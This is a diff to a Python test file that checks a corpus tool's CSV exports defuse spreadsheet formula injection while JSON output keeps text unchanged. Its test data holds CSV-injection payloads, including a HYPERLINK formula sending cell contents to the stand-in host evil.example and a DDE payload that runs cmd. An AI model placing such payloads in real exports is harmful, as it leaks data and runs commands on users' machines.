@@ -26,7 +26,7 @@ from propscope.schema import (
     TechniqueSpan,
 )
 from propscope.store import Store
-from propscope.views import flat_columns
+from propscope.views import flat_columns, spreadsheet_cell
 
 runner = CliRunner()
 
@@ -315,6 +315,68 @@ def test_export_of_the_known_corpus(known_db):
         ("D", 1),
     ]
     assert {r["article"]["id"]: r["store"]["published"] for r in articles}["C"] is None
+
+
+# Cells a spreadsheet would run as formulas (CSV injection): each finding starts with one of
+# = + - @ tab CR, and so do the article id, the text and the source.
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/"&A1,"open") said the mayor; -2+3 is @SUM(A1:A9)'
+    " and +cmd|' /C calc'!A0 then\t=1+1 and\r-DDE(1)."
+)
+FORMULA_SPANS = ["=HYPERLINK", "-2+3", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "\t=1+1", "\r-DDE(1)"]
+
+
+def test_csv_exports_defuse_formulas_and_keep_numbers(corpus_db_url, tmp_path):
+    findings = [(phrase, "Loaded_Language") for phrase in FORMULA_SPANS]
+    item = known_item("@id", FORMULAS, findings, {"source": "=cmd()"})
+    Store(corpus_db_url).add_many([item])
+
+    rows = list(csv.DictReader(io.StringIO(run("export", "--db", corpus_db_url, "-f", "csv"))))
+    assert sorted(r["text"] for r in rows) == sorted("'" + p for p in FORMULA_SPANS)
+    for row in rows:
+        assert (row["article.id"], row["store.source"]) == ("'@id", "'=cmd()")
+        start, end = int(row["start"]), int(row["end"])  # numbers stay numbers
+        assert row["text"] == "'" + FORMULAS[start:end]
+        assert float(row["confidence"]) == 0.9 and row["technique"] == "Loaded_Language"
+    out = tmp_path / "articles.csv"
+    run("export", "--db", corpus_db_url, "-f", "csv", "--level", "articles", "-o", str(out))
+    with open(out, encoding="utf-8", newline="") as handle:
+        (article,) = csv.DictReader(handle)
+    assert article["text"] == "'" + FORMULAS and article["summary.spans"] == "6"
+
+    stats = run("stats", "--db", corpus_db_url, "--by", "source", "-f", "csv")
+    (group,) = csv.DictReader(io.StringIO(stats))
+    assert (group["source"], group["articles"], group["spans"]) == ("'=cmd()", "1", "6")
+
+    # JSON Lines (and parquet) are not spreadsheets: they keep every text exactly.
+    (record, *_) = [json.loads(x) for x in run("export", "--db", corpus_db_url).splitlines()]
+    assert record["article"]["id"] == "@id" and record["store"]["source"] == "=cmd()"
+    assert record["text"] == FORMULAS[record["start"] : record["end"]]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1 555 0100 call", "'+1 555 0100 call"),
+        ("-x", "'-x"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("plain = text", "plain = text"),
+        ("'quoted", "'quoted"),
+        ("", ""),
+        (None, None),
+        (-3, -3),
+        (-0.25, -0.25),
+        (True, True),
+        ("-0.25", "-0.25"),  # a number written as text is data, not a formula
+        ("+12", "+12"),
+        ("-1e-3", "-1e-3"),
+    ],
+)
+def test_spreadsheet_cells(value, cell):
+    assert spreadsheet_cell(value) == cell
 
 
 def test_export_errors_are_one_line(analysed_db, tmp_path):
